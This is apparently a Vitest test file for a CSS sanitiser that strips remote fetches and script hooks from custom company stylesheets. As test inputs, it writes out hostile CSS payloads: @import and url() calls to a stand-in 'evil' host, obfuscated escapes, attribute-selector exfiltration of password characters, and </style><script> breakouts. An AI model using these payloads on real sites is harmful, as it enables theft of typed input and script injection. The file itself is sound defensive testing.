import { describe, expect, it } from 'vitest';
import {
  isAllowedCssUrl,
  sanitizeCss,
} from '../../src/server/services/company-settings/sanitize-css.js';

/** Nothing in the result may point anywhere but this origin or an inline raster image. */
function expectNoForeignHost(css: string) {
  expect(css).not.toMatch(/https?:/i);
  expect(css).not.toMatch(/\/\/evil/i);
  expect(css).not.toMatch(/evil/i);
  expect(css).not.toContain('<');
}

describe('sanitizeCss: attacks', () => {
  it.each([
    ['@import with url()', '@import url(https://evil.example/x.css); a{color:red}'],
    ['@import with a string', "@import 'https://evil.example/x.css'; a{color:red}"],
    ['@import nested in @media', '@media screen{@import "//evil/x.css";} a{color:red}'],
    ['url() in a background', 'a{background:url(https://evil/?a);color:red}'],
    ['protocol-relative url()', 'a{background:url(//evil/a.png);color:red}'],
    ['backslash protocol-relative', 'a{background:url("/\\\\evil/a.png");color:red}'],
    ['tab inside the path', 'a{background:url("/\t/evil/a.png");color:red}'],
    ['escaped function name u\\rl(', 'a{background:u\\rl(https://evil/a);color:red}'],
    ['hex-escaped function name \\75 rl(', 'a{background:\\75 rl(https://evil/a);color:red}'],
    ['escaped target', 'a{background:url("\\68ttps://evil/a");color:red}'],
    ['quotes and whitespace inside url( )', "a{background:url(  ' https://evil/a '  );color:red}"],
    ['image-set() with strings', 'a{background:image-set("https://evil/a.png" 1x);color:red}'],
    [
      '-webkit-image-set() with url()',
      'a{background:-webkit-image-set(url(//evil/a) 1x);color:red}',
    ],
    ['escaped image-set name', 'a{background:image-s\\65 t("//evil/a.png" 1x);color:red}'],
    ['src() with var()', 'a{background:src(var(--u));color:red}'],
    ['image-set() with var()', 'a{background:image-set(var(--u) 1x);color:red}'],
    [
      'custom property holding a url',
      ':root{--u:url(https://evil/a)} a{background:var(--u);color:red}',
    ],
    ['@font-face src', '@font-face{font-family:x;src:url(https://evil/f.woff)} a{color:red}'],
    ['@namespace', '@namespace svg url(https://evil/ns); a{color:red}'],
    ['cursor url', 'a{cursor:url(https://evil/c.cur),auto;color:red}'],
    [
      '@supports with a url in its condition',
      '@supports (background:url(https://evil)){a{color:red}}',
    ],
    ['svg data url', 'a{background:url("data:image/svg+xml,<svg onload=alert(1)>evil");color:red}'],
    ['javascript url', 'a{background:url("javascript:alert(1)//evil");color:red}'],
  ])('%s: the fetch is removed, the rest stays', (_name, css) => {
    const out = sanitizeCss(css);
    expectNoForeignHost(out);
    if (!css.startsWith('@supports'))
      expect(out).toMatch(/a\{(background:var\(--u\);)?color:red\}/);
    expect(out).not.toMatch(/url\(|src\(|image-set\(/i);
  });

  it('removes attribute-selector exfiltration (a rule per typed character)', () => {
    const css = [
      'input[value^="a"]{background:url(//evil/a)}',
      'input[value^="b"]{background:url(https://evil/b)}',
      'input[type=password][value$="c"]{background-image:image-set("https://evil/c" 1x)}',
    ].join('\n');
    const out = sanitizeCss(css);
    expectNoForeignHost(out);
    expect(out).toBe('');
  });

  it('cannot close its style element', () => {
    for (const css of [
      'a{content:"</style><script>alert(1)</script>"}',
      'a{color:red}</style><script>alert(1)</script>',
      '</style><script>alert(1)</script><style>',
      'a[title="</style>"]{color:red}',
      'a{content:"\\3c/style>"}',
      '<!-- a{color:red} -->',
    ]) {
      const out = sanitizeCss(css);
      expect(out).not.toContain('<');
      expect(out.toLowerCase()).not.toContain('</style');
      expect(out).not.toContain('<!--');
    }
    // The text still means what it said, as a CSS escape.
    expect(sanitizeCss('a{content:"</style>"}')).toBe('a{content:"\\3c /style>"}');
  });

  it('removes legacy script hooks', () => {
    expect(sanitizeCss('a{width:expression(alert(1));color:red}')).toBe('a{color:red}');
    expect(sanitizeCss('a{behavior:url(/x.htc);color:red}')).toBe('a{color:red}');
    expect(sanitizeCss('a{\\62 ehavior:url(/x.htc);color:red}')).toBe('a{color:red}');
    expect(sanitizeCss('a{-moz-binding:url(/x.xml#b);color:red}')).toBe('a{color:red}');
  });

  it('keeps only @media, @supports and @keyframes at-rules', () => {
    const out = sanitizeCss(
      '@charset "utf-8"; @page{margin:0} @layer x{a{color:red}} @property --x{syntax:"*"}' +
        ' @container (min-width:1px){a{color:red}} @media print{b{color:blue}}',
    );
    expect(out).toBe('@media print{b{color:blue}}');
  });

  it('drops comments and whatever the parser cannot read', () => {
    expect(sanitizeCss('/* hello */ a{color:red} /*! keep */')).toBe('a{color:red}');
    expect(sanitizeCss('a{color:red;;} } b{color:blue}')).not.toContain('}}');
    expect(sanitizeCss(':root{--odd:{a:b}} a{color:red}')).toBe('a{color:red}');
  });

  it('refuses CSS over 50 KB', () => {
    const big = `a{color:red}${' '.repeat(50 * 1024)}`;
    expect(() => sanitizeCss(big)).toThrow('Custom CSS is too long (50 KB at most)');
    expect(sanitizeCss(`a{color:red}${' '.repeat(40 * 1024)}`)).toBe('a{color:red}');
  });
});

describe('sanitizeCss: harmless CSS survives', () => {
  it.each([
    ['.btn:hover{background:#fff!important}'],
    ['.sidebar{background-color:#f0f0f0;border-radius:8px}'],
    ['@media (min-width:600px){.x{color:red}}'],
    ['@supports (display:grid){.grid{display:grid}}'],
    ['@keyframes spin{from{transform:rotate(0)}to{transform:rotate(360deg)}}'],
    [':root{--brand-accent:#ff6600}.a{color:var(--brand-accent)}'],
    ['.logo{background:url(/images/logo.png)no-repeat}'],
    ['.dot{background-image:url(data:image/png;base64,iVBORw0KGgo=)}'],
    ['.hero{background:image-set("/a.png"1x,url(/b.png)2x)}'],
    ['.blur{filter:url(#soft)}'],
    ['input[value^="a"]{color:green}'],
    ['a::after{content:"→ more"}'],
  ])('%s', (css) => {
    expect(sanitizeCss(css)).toBe(css);
  });

  it('is stable: sanitising twice changes nothing', () => {
    const css =
      'a{content:"</x>";background:url(/a.png)}@media print{b{color:blue}}' +
      '@import "x";c{background:url(https://evil)}';
    const once = sanitizeCss(css);
    expect(sanitizeCss(once)).toBe(once);
  });

  it('empty stays empty', () => {
    expect(sanitizeCss('')).toBe('');
    expect(sanitizeCss('   \n')).toBe('');
  });
});

describe('isAllowedCssUrl', () => {
  it.each([
    ['/img/a.png', true],
    ['/a.png?v=2#x', true],
    ['#filter', true],
    ['data:image/png;base64,AAAA', true],
    ['data:image/webp;base64,AAAA', true],
    ['data:image/svg+xml,<svg/>', false],
    ['data:text/css,a{}', false],
    ['//evil/a', false],
    ['/\\evil/a', false],
    ['https://evil/a', false],
    ['a.png', false],
    ['../a.png', false],
    [' /a.png', false],
    ['/a b.png', false],
  ])('%s -> %s', (url, allowed) => {
    expect(isAllowedCssUrl(url)).toBe(allowed);
  });
});
